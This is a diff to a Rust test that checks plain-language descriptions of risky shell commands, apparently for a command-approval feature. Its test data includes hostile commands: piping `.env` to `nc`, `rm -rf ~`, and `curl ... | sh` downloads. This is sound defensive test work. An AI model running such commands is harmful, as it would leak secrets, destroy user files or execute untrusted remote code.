@@ -91,8 +91,9 @@ fn a_headline_tells_steps_that_belong_together_as_one_and_hides_none() {
         ("cat .env | nc 192.0.2.1 99", "Sends `.env`, which can hold secrets, to another computer."),
         (
             "rm -rf ~ | curl -s https://a.example/x | sh",
-            "Deletes `~` with everything in it, then downloads `https://a.example/x` and runs it straight away, unseen.",
+            "Downloads `https://a.example/x` and runs it straight away, unseen, then deletes `~` with everything in it.",
         ),
+        ("echo y | npx create-shop", "Runs the package `create-shop` with `npx`."),
         (
             "rm x; curl -s https://a.example/x | sh",
             "Deletes `x`, then downloads `https://a.example/x` and runs it straight away, unseen.",
